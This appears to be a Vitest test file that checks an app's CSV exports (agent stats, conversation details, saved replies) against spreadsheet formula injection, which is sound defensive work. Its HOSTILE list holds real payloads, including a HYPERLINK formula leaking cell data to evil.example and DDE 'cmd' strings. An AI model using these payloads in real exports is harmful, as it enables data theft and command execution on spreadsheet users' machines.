import { describe, expect, it } from 'vitest';
import { parseCsv, type Separator } from '../../../utils/csv';
import { exportLibraryCsv } from '../../../utils/replies/import';
import type { ReplyDraft } from '../../../utils/replies/types';
import { detailCsv, SUMMARY_HEADER, summaryCsv } from '../../../utils/stats/csv';
import type { ResponseRecord } from '../../../utils/stats/types';

/**
 * CSV formula injection: text that came from the inbox (agent labels,
 * conversation keys) or from users (saved replies) must never reach a
 * spreadsheet as a formula, nor break out of its cell. Every exporter's
 * output is parsed back with an RFC 4180 parser and each cell is checked.
 */
const FORMULA = /^[=+\-@\t\r]/;

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  'Marie;=1+1',
  'Marie,=1+1',
  'Marie\n=1+1',
  'Marie\r\n@SUM(A1)',
  '"=1+1"',
  'a"b,c;d',
  'Zoé 🎉 <b>bold</b>',
];

const expected = (text: string) => (FORMULA.test(text) ? `'${text}` : text);

function cellsOf(csv: string, separator: Separator) {
  const parsed = parseCsv(csv, separator);
  if (!parsed.ok) throw new Error(`unparseable CSV (line ${parsed.line})`);
  return parsed.records.map((r) => r.cells);
}

const record = (agent: string, conversation: string): ResponseRecord => ({
  id: `p|${conversation}|1`,
  pageId: 'p',
  conversation,
  customerAt: Date.parse('2026-11-16T09:00:00Z'),
  repliedAt: Date.parse('2026-11-16T09:04:00Z'),
  agent,
  responseSeconds: 240,
  businessResponseSeconds: 240,
  withinTarget: true,
  source: 'this-browser',
  precision: 'exact',
});

describe.each([',', ';'] as const)('CSV exports neutralise formulas (separator %s)', (separator) => {
  it('stats summary: agent labels stay one inert cell each', () => {
    const rows = HOSTILE.map((agent) => ({ agent, responses: 3, medianSeconds: 60, p90Seconds: 120, averageSeconds: 70, withinTargetPct: 100, approximate: 0 }));
    const cells = cellsOf(summaryCsv(rows, { separator, week: '=2026-W47' }), separator);
    expect(cells).toHaveLength(HOSTILE.length + 1); // no row injected
    HOSTILE.forEach((agent, i) => {
      const row = cells[i + 1]!;
      expect(row, agent).toHaveLength(SUMMARY_HEADER.length); // no cell injected
      expect(row[0]).toBe("'=2026-W47");
      expect(row[1]).toBe(expected(agent));
    });
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(FORMULA);
  });

  it('stats detail: agent labels and conversation keys stay inert', () => {
    const input = HOSTILE.map((h, i) => record(h, `${HOSTILE[(i + 3) % HOSTILE.length]}`));
    const cells = cellsOf(detailCsv(input, { separator, timeZone: 'Europe/Paris' }), separator);
    expect(cells).toHaveLength(HOSTILE.length + 1);
    for (const row of cells.slice(1)) {
      expect(row).toHaveLength(11);
      expect(HOSTILE.map(expected)).toContain(row[1]);
      expect(HOSTILE.map(expected)).toContain(row[2]);
    }
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(FORMULA);
  });

  it('saved replies: titles, bodies, tags and shortcuts stay inert', () => {
    const drafts: ReplyDraft[] = HOSTILE.map((h, i) => ({ title: h, body: `${h} body`, language: 'any', tags: [h], shortcut: i % 2 ? h : undefined }));
    const cells = cellsOf(exportLibraryCsv(drafts, separator).replace(/^\uFEFF/, ''), separator);
    expect(cells).toHaveLength(HOSTILE.length + 1);
    HOSTILE.forEach((h, i) => {
      const row = cells[i + 1]!;
      expect(row, h).toHaveLength(5);
      expect(row[0]).toBe(expected(h));
    });
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(FORMULA);
  });
});
